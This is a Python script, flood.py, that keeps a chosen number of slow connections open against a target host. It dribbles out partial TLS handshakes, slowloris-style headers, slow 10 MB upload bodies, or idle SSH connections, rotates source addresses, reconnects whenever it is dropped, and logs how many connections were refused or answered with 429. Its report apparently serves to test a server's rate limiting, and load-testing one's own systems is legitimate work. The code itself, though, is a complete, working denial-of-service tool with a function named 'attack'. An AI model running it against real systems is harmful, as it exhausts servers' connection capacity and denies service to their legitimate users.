#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Many who connect and then take their time: flood.py KIND COUNT REPORT HOST [ADDRESS...].

Keeps COUNT connections to HOST open, from the given addresses in turn; whoever was closed comes again after a second.
REPORT is a file of JSON, written again all the time: {"open": now, "opened": so far, "closed": by the host so far,
"refused": before or while they connected, "429": answered so}. KIND is what they do, a byte every second or two where
they say anything:

handshakes  begin a TLS handshake with port 443 and don't end it
headers     send a request's headers
bodies      send a request's body of 10 MB, to /upload
ssh         connect to port 2222; every other one says its version, the others nothing
"""

import asyncio
import collections
import contextlib
import json
import pathlib
import socket
import ssl
import sys

KIND, COUNT, REPORT, HOST = sys.argv[1], int(sys.argv[2]), pathlib.Path(sys.argv[3]), sys.argv[4]
ADDRESSES = sys.argv[5:]
ADDRESS = socket.gethostbyname(HOST)
# A TLS record of 512 bytes with a ClientHello, of which no more is sent than its start.
HELLO = bytes.fromhex("1603010200010001fc0303")
counts: collections.Counter[str] = collections.Counter(open=0, opened=0, closed=0, refused=0, **{"429": 0})


async def dawdle(writer: asyncio.StreamWriter, start: bytes, piece: bytes) -> None:
    """Send the start, and then a piece every second (bodies) or two."""
    # Once the host has closed the connection nothing is written, which is no matter here.
    with contextlib.suppress(ConnectionError):
        writer.write(start)
        while piece:
            await asyncio.sleep(1 if KIND == "bodies" else 2)
            writer.write(piece)
            await writer.drain()


async def connect(number: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection."""
    # Whom they talk to does not matter to them.
    context = ssl._create_unverified_context() if KIND in ("headers", "bodies") else None
    source = (ADDRESSES[number % len(ADDRESSES)], 0) if ADDRESSES else None
    return await asyncio.open_connection(
        ADDRESS,
        2222 if KIND == "ssh" else 443,
        local_addr=source,
        ssl=context,
        server_hostname=HOST if context else None,
        ssl_handshake_timeout=60 if context else None,
    )


async def attack(number: int) -> None:
    """One connection, until the host ends it."""
    try:
        reader, writer = await connect(number)
    except OSError:
        counts["refused"] += 1
        return
    counts.update(open=1, opened=1)
    head = f"POST /upload HTTP/1.1\r\nHost: {HOST}\r\n"
    start, piece = {
        "handshakes": (HELLO, b"x"),
        "headers": (head.encode(), b"X-Slow: yes\r\n"),
        "bodies": (f"{head}Content-Length: 10000000\r\n\r\n".encode(), b"x"),
        "ssh": (b"SSH-2.0-slow\r\n" if number % 2 else b"", b""),
    }[KIND]
    sending = asyncio.create_task(dawdle(writer, start, piece))
    try:
        while said := await reader.read(10_000):
            counts["429"] += said.startswith(b"HTTP/1.1 429 ")
    except OSError:
        pass
    finally:
        counts.update(open=-1, closed=1)
        sending.cancel()
        writer.transport.abort()


async def again_and_again(number: int) -> None:
    """Always one connection."""
    while True:
        await attack(number)
        await asyncio.sleep(1)


async def main() -> None:
    """All of them, until ended."""
    crowd = [asyncio.create_task(again_and_again(number)) for number in range(COUNT)]
    while crowd:
        REPORT.with_suffix(".new").write_text(json.dumps(counts))
        REPORT.with_suffix(".new").rename(REPORT)
        await asyncio.sleep(0.5)


asyncio.run(main())
